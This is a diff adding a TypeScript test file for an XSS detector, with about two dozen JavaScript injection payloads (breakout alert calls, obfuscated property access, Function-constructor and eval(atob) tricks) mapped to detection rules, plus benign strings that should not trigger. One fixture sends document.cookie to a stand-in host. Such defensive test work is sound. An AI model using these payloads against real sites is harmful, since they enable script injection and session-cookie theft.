@@ -1,0 +1,59 @@
+import { XSS_RULES } from '../rules/xss-rules.js';
+import { jsContexts } from './js-contexts.js';
+import { findJsScript } from './js-rules.js';
+
+const ruleIds = (input: string): string[] => [...new Set(jsContexts(input).flatMap((c) => findJsScript(c.tokens, c.afterBreak).map((f) => f.rule.id)))];
+
+describe('findJsScript', () => {
+  it.each([
+    [`';alert(1)//`, XSS_RULES.jsBreakCall],
+    [`"-alert(1)-"`, XSS_RULES.jsBreakCall],
+    [`x";setTimeout(name, 1)//`, XSS_RULES.jsBreakCall],
+    ['${alert(1)}', XSS_RULES.jsBreakCall],
+    ['alert(1)', XSS_RULES.jsProbeCall],
+    ['alert(document.domain)', XSS_RULES.jsProbeCall],
+    ["prompt('XSS')", XSS_RULES.jsProbeCall],
+    ['confirm(/xss/)', XSS_RULES.jsProbeCall],
+    ["alert('Hello there')", XSS_RULES.probeCallString],
+    ['alert`1`', XSS_RULES.jsTaggedTemplate],
+    ['[].sort.call`${alert}1337`', XSS_RULES.jsTaggedTemplate],
+    ['[  ] . sort . call ` ${ alert } 1337 `', XSS_RULES.jsTaggedTemplate],
+    [`window["alert"](1)`, XSS_RULES.jsObfuscatedAccess],
+    [`top['al'+'ert'](1)`, XSS_RULES.jsObfuscatedAccess],
+    ['(document)["cookie"]', XSS_RULES.jsObfuscatedAccess],
+    ['document /*foo*/ .     cookie', XSS_RULES.jsObfuscatedAccess],
+    [`Function('alert(1)')()`, XSS_RULES.jsFunctionConstructor],
+    [`[].constructor.constructor('alert(1)')()`, XSS_RULES.jsFunctionConstructor],
+    ['[1].find(alert)', XSS_RULES.jsSinkAsValue],
+    ['(alert)(1)', XSS_RULES.jsSinkAsValue],
+    ['onerror=alert;throw 1', XSS_RULES.jsSinkAsValue],
+    [`eval(atob('YWxlcnQoMSk='))`, XSS_RULES.jsEvalDecoded],
+    [`setTimeout('al'+'ert(1)')`, XSS_RULES.jsEvalDecoded],
+    [`new Image().src='//evil/?c='+document.cookie`, XSS_RULES.cookieExfiltration],
+    ['document.cookie', XSS_RULES.jsSensitiveProperty],
+    ["eval('2 + 2')", XSS_RULES.jsSinkCall],
+  ])('flags %j with its rule', (input, rule) => {
+    expect(ruleIds(input)).toContain(rule.id);
+  });
+
+  const paranoiaOne = (input: string): string[] =>
+    jsContexts(input)
+      .flatMap((c) => findJsScript(c.tokens, c.afterBreak))
+      .filter((f) => f.rule.paranoia === 1 && f.rule.severity === 'critical')
+      .map((f) => f.rule.id);
+
+  it.each([
+    "It's 5 o'clock; let's go (now).",
+    'He said "stop"; then (after a pause) left.',
+    'Please confirm (yes/no) before leaving.',
+    'The alert() function shows a dialog',
+    'Use `alert` sparingly',
+    'setTimeout(refresh, 1000);',
+    "document.getElementById('app').textContent = 'hi';",
+    'if (x) { return a < b; }',
+    'https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s',
+    "var c = 'x'; window.addEventListener('resize', onResize);",
+  ])('raises no critical paranoia-1 rule on %j', (input) => {
+    expect(paranoiaOne(input)).toEqual([]);
+  });
+});
